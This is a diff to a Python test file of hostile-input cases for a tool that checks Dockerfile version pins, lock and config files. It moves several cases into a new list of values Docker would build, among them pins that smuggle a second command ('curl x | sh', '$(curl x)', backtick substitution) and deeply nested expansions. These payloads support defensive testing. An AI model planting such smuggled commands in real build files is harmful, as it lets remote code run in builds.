@@ -65,16 +65,10 @@ CASES = [
          _edit(VLLM, lambda old: old + b"# " + b"x" * (50 * MB) + b"\n")),
     Case("dockerfile-1mb-line", "dockerfile", VLLM, 12, "longer than the 65535",
          _edit(VLLM, lambda old: old + b"RUN echo " + b"a" * MB + b"\n")),
-    Case("nested-expansion", "dockerfile", VLLM, 12, "nested deeper",
-         _edit(VLLM, lambda old: old + b"RUN echo " + b"${A:-" * 40 + b"x" + b"}" * 40 + b"\n")),
-    Case("self-referencing-arg", "dockerfile", VLLM, 3, "refers to itself", _vllm_ref(b"$VLLM_REF")),
     Case("nul-byte", "dockerfile", VLLM, 12, "binary file", _edit(VLLM, lambda old: old + b"\x00\n")),
     Case("invalid-utf8", "dockerfile", VLLM, 12, "not valid UTF-8", _edit(VLLM, lambda old: old + b"# \xff\xfe\n")),
     Case("symlink-out-of-repo", "dockerfile", VLLM, None, "out of the repository", _symlink_out),
     Case("fifo", "dockerfile", VLLM, None, "not a regular file", _fifo),
-    Case("pin-with-command-list", "dockerfile", VLLM, 3, "shell metacharacters", _vllm_ref(b'"0.10.2; curl x | sh"')),
-    Case("pin-with-substitution", "dockerfile", VLLM, 3, "shell metacharacters", _vllm_ref(b'"$(curl x)"')),
-    Case("pin-with-backticks", "dockerfile", VLLM, 3, "shell metacharacters", _vllm_ref(b'"`curl x`"')),
     Case("upstream-toml-bomb", "upstream", UPSTREAM, None, "nested too deeply", _edit(UPSTREAM, _deep_toml)),
     Case("upstream-duplicate-key", "upstream", UPSTREAM, 3, "invalid TOML",
          _write(UPSTREAM, b'[project]\nname = "ai-dynamo"\nname = "other"\n')),
@@ -91,6 +85,17 @@ CASES = [
     Case("config-wrong-type", "config", CONFIG, None, "must be a list",
          _edit(CONFIG, lambda old: old.replace(b'platforms = ["linux/amd64", "linux/arm64"]', b'platforms = "linux/amd64"', 1))),
     Case("config-toml-bomb", "config", CONFIG, None, "nested too deeply", _edit(CONFIG, lambda old: _deep_toml(old))),
+]
+
+
+# Values Docker builds: aligner reads the file (never refuses it), and such a value is never passed to a
+# build, written into the lock, or written by fix. (file, the hostile bytes, how to make the case)
+BUILT = [
+    ("self-referencing-arg", b"$VLLM_REF", _vllm_ref(b"$VLLM_REF")),
+    ("pin-with-command-list", b"curl x | sh", _vllm_ref(b'"0.10.2; curl x | sh"')),
+    ("pin-with-substitution", b"$(curl x)", _vllm_ref(b'"$(curl x)"')),
+    ("pin-with-backticks", b"`curl x`", _vllm_ref(b'"`curl x`"')),
+    ("nested-expansion", b"${A:-" * 40, _edit(VLLM, lambda old: old + b"RUN echo " + b"${A:-" * 40 + b"x" + b"}" * 40 + b"\n")),
 ]
 
 # What each command reads. `report`, `bake` and `verify` work from the lock, which records its upstream's
